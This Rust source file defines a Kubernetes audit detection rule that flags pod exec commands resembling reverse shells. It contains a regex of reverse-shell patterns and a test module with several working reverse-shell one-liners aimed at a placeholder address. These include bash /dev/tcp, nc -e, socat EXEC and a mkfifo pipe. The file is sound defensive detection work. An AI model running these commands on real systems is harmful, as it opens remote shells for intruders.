//! An exec that opens a shell to somewhere else.

use std::sync::LazyLock;

use regex::Regex;

use super::exec::short;
use crate::audit::detect::spec::CAP;
use crate::audit::detect::{Actors, Detection, Look, On, Out, Severity, Spec, Verbs};

pub struct ExecReverseShell;

const SPEC: Spec = Spec {
    id: "exec-reverse-shell",
    title: "Command in a pod that opens a shell to the outside",
    techniques: "T1059 T1609",
    severity: Severity::Critical,
    says: "{who} [ran|tried to run] what looks like a reverse shell in {what}{notes}.",
    false_positives: "Connectivity tests with nc or socat that pass a program on; exercises.",
    step: "Isolate the pod now and capture it: somebody may be in it. The address in the command is an indicator to look \
        for elsewhere.",
    on: On::Resources(&[("pods", "exec", Verbs::GET.or(Verbs::CREATE))]),
    by: Actors::ANY,
    needs: &[],
    cap: CAP,
};

static SHELLS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?i)/dev/(tcp|udp)/",
        r"|\bn(et)?c(at)?\b.{0,200}\s-[a-z]*[ec]\b",
        r"|\bncat\b.{0,200}--(sh-)?exec",
        r"|\bmkfifo\b",
        r"|\bsocat\b.{0,200}(exec|system|tcp|openssl|pty)",
        r"|pty\.spawn|\bos\.dup2\b|socket\.socket",
        r"|\bfsockopen\b|TCPSocket\.(new|open)|use\s+Socket;|IO::Socket",
        r"|\bopenssl\b.{0,40}\bs_client\b.{0,200}\bsh\b|\b(ba|z|k|da)?sh\s+-i\b.{0,60}[<>]&",
        r"|\btelnet\b.{0,100}\|.{0,40}sh\b",
    ))
    .ok()
});

impl Detection for ExecReverseShell {
    fn spec(&self) -> Spec<'_> {
        SPEC
    }

    fn look(&self, look: &Look, out: &mut Out) {
        let command = look.event.command().join(" ");
        if SHELLS.as_ref().is_some_and(|r| r.is_match(&command)) {
            out.hit(look, Severity::Critical, &format!("`{}`", short(&command)));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::audit::detect::plant::{each, line, none};

    #[test]
    fn the_usual_ways() {
        assert!(SHELLS.is_some());
        let exec = |command: &str| line("create", "pods/exec").ns("shop").name("web-1").command(&["sh", "-c", command]);
        each(
            SPEC.id,
            Severity::Critical,
            &[
                exec("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
                exec("nc 203.0.113.9 4444 -e /bin/sh"),
                exec("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh"),
                exec("socat TCP:203.0.113.9:4444 EXEC:sh"),
                exec("python3 -c 'import pty; pty.spawn(\"sh\")'"),
                exec("ncat --exec /bin/sh 203.0.113.9 1"),
            ],
        );
        none(SPEC.id, &[exec("nc -zv db 5432"), exec("bash -i"), exec("sync; ls"), exec("echo fence -e")]);
    }
}
